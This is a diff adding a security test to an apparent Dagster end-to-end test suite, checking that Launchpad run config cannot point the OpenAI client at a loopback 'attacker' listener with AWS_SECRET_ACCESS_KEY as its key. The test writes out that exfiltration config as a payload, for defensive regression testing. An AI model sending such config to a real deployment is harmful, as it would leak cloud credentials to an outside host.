@@ -5,8 +5,10 @@ webserver's GraphQL partition statuses and per-job check results, then headless 
 partition page in two clicks).
 Screenshots go to test-artifacts/."""
 
+import http.server
 import json
 import shutil
+import threading
 import urllib.request
 from dataclasses import dataclass
 from pathlib import Path
@@ -115,6 +117,63 @@ def test_graphql_partition_statuses_and_per_job_checks(three_jobs):
         jobs["failed"]: False,  # its second image is missing from S3
     }
     assert check_results("execution_steps", "every_workflow_step_recorded") == dict.fromkeys(jobs.values(), True)
+
+
+LAUNCH = """mutation($params: ExecutionParams!) { launchRun(executionParams: $params) { __typename
+  ... on RunConfigValidationInvalid { errors { message } } ... on LaunchRunSuccess { run { runId } } } }"""
+REPOSITORIES = """{ repositoriesOrError { ... on RepositoryConnection { nodes { name location { name } } } } }"""
+RUNS_OF = """query($value: String!) { runsOrError(filter: {tags: [{key: "dagster/partition", value: $value}]}) {
+  ... on Runs { results { runId } } } }"""
+
+
+def test_launchpad_run_config_cannot_send_the_key_elsewhere(three_jobs):
+    """What anyone who can open the Launchpad can send: run config pointing the OpenAI client at their own listener
+    with another environment variable as the key, for a real job with replays off. The launch is refused, no run
+    starts, and the listener hears nothing."""
+    heard: list[str] = []
+    listener = _listener(heard)
+    job = three_jobs.jobs["completed"]
+    [repository] = three_jobs.graphql(REPOSITORIES)["repositoriesOrError"]["nodes"]
+    runs_before = three_jobs.graphql(RUNS_OF, value=job)["runsOrError"]["results"]
+    run_config = {
+        "ops": {"process_job": {"config": {"replay_answers": False}}},
+        "resources": {"openai": {"config": {
+            "base_url": f"http://127.0.0.1:{listener.server_port}/v1", "api_key": {"env": "AWS_SECRET_ACCESS_KEY"},
+        }}},
+    }
+    params = {
+        "selector": {"repositoryLocationName": repository["location"]["name"], "repositoryName": repository["name"],
+                     "jobName": "image_generation_job"},
+        "runConfigData": run_config,
+        "executionMetadata": {"tags": [{"key": "dagster/partition", "value": job}]},
+    }
+    try:
+        launched = three_jobs.graphql(LAUNCH, params=params)["launchRun"]
+    finally:
+        listener.shutdown()
+    assert launched["__typename"] == "RunConfigValidationInvalid", launched
+    assert any("resources:openai:config" in e["message"] for e in launched["errors"]), launched["errors"]
+    assert three_jobs.graphql(RUNS_OF, value=job)["runsOrError"]["results"] == runs_before
+    assert heard == []
+
+
+def _listener(heard: list[str]) -> http.server.ThreadingHTTPServer:
+    """A loopback HTTP server that records every request line it is sent (the would-be attacker's host)."""
+
+    class Record(http.server.BaseHTTPRequestHandler):
+        def do_POST(self):  # noqa: N802 (http.server's naming)
+            heard.append(f"{self.command} {self.path} {self.headers.get('Authorization')}")
+            self.send_response(500)
+            self.end_headers()
+
+        do_GET = do_POST  # noqa: N815
+
+        def log_message(self, *args):
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Record)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    return server
 
 
 def test_asset_graph_shows_the_six_assets(three_jobs, page):
